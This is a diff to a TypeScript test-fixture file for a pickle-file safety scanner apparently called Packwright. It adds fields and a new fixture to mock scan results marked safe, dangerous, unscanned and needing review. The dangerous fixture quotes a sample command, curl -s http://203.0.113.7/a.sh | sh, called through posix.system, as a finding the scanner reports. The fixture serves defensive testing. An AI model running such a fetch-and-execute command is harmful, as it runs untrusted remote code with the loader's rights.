@@ -17,7 +17,10 @@ function requirement(line: string, source: string): RequirementView {
 function known(what: string, byte: number): FindingView {
 	return {
 		rule: 'pickle/known-class',
+		key: `pickle/known-class ${what}`,
 		severity: 'info',
+		library: what.startsWith('numpy') ? 'numpy' : 'scikit-learn',
+		accepted: null,
 		what,
 		place: `byte ${byte}`,
 		why: `a class of ${what.split('.')[0] ?? what} that the framework itself writes`,
@@ -112,10 +115,15 @@ export function pipelineDraft(id = 'pipeline'): DraftView {
 			requirement('pandas', 'columns are passed by name'),
 		],
 		python: { text: '3.11', source: 'assumed: newest Python that scikit-learn 1.9.1 supports' },
+		models: [],
+		modules: [],
+		code: [],
+		types: [],
 		safety: {
 			verdict: 'safe',
 			summary: 'Loading it creates 14 classes of scikit-learn and numpy, and runs no other code.',
 			unread: [],
+			isReviewed: false,
 			findings: [
 				known('sklearn.pipeline.Pipeline', 2),
 				known('sklearn.compose._column_transformer.ColumnTransformer', 118),
@@ -198,6 +206,7 @@ export function boosterDraft(id = 'booster'): DraftView {
 			verdict: 'safe',
 			summary: 'The file is data only. Loading it runs no code.',
 			unread: [],
+			isReviewed: false,
 			findings: [],
 		},
 		decisions: [{ id: 'outputs', text: 'What comes out is not recorded in the file', section: 'signature' }],
@@ -239,10 +248,14 @@ export function dangerousDraft(id = 'dangerous'): DraftView {
 			verdict: 'dangerous',
 			summary: 'Loading it runs a shell command: curl -s http://203.0.113.7/a.sh | sh',
 			unread: [],
+			isReviewed: false,
 			findings: [
 				{
 					rule: 'pickle/dangerous-call',
+					key: 'pickle/dangerous-call',
 					severity: 'dangerous',
+					library: '',
+					accepted: null,
 					what: 'posix.system("curl -s http://203.0.113.7/a.sh | sh")',
 					place: 'byte 27',
 					why: 'runs a command with the rights of whoever loads the model',
@@ -268,17 +281,24 @@ export function unscannedDraft(id = 'unscanned'): DraftView {
 			verdict: 'unscanned',
 			summary: 'Not read to its end: what the rest would do is not known.',
 			unread: ['The bytes from 61 204 on are a nested stream in a format that Packwright does not read.'],
+			isReviewed: false,
 			findings: [
 				{
 					rule: 'pickle/unread',
+					key: 'pickle/unread',
 					severity: 'unscanned',
+					library: '',
+					accepted: null,
 					what: 'nested stream',
 					place: 'byte 61204',
 					why: 'code in it could not be listed',
 				},
 				{
 					rule: 'pickle/unknown-class',
+					key: 'pickle/unknown-class',
 					severity: 'review',
+					library: '',
+					accepted: null,
 					what: 'acme_ml.wrappers.CalibratedThing',
 					place: 'byte 44',
 					why: 'a module that is not part of any known library',
@@ -322,5 +342,43 @@ export function wideDraft(id = 'wide'): DraftView {
 			outputs: { kind: 'tensors', columns: [{ ...column(null, 'float64', 'n_outputs_'), shape: '[-1]' }] },
 			params: [],
 		},
+	};
+}
+
+/** A file with two models that needs code of the person's own and types that skops asks about. */
+export function ownCodeDraft(id = 'code'): DraftView {
+	return {
+		...pipelineDraft(id),
+		name: { text: 'price_bundle', source: 'file name' },
+		fileName: 'price_bundle.pkl',
+		path: '/home/ada/models/price_bundle.pkl',
+		models: [
+			{ path: '["model"]', class: 'Pipeline', isChosen: true },
+			{ path: '["scaler"]', class: 'StandardScaler', isChosen: false },
+		],
+		modules: [
+			{ module: 'shop.features', names: ['Ratio'], found: null, undefined: [] },
+			{ module: '__main__', names: ['clip', 'Share'], found: 'code/train.py', undefined: ['Share'] },
+		],
+		types: [{ name: 'shop.features.Ratio', isTrusted: false, why: 'on no known list' }],
+		safety: {
+			verdict: 'review',
+			summary: 'loading needs code that is on no known list: shop.features.Ratio, __main__.Share',
+			unread: [],
+			isReviewed: false,
+			findings: ['shop.features.Ratio', '__main__.Share'].map((what) => ({
+				rule: 'pickle/unknown-name',
+				key: `pickle/unknown-name ${what}`,
+				severity: 'review',
+				library: '',
+				accepted: null,
+				what,
+				place: 'byte 44',
+				why: 'code of a module that belongs to no library that Packwright knows',
+			})),
+		},
+		decisions: [
+			{ id: 'code-missing', text: 'The model imports Ratio from shop.features', section: 'environment' },
+		],
 	};
 }
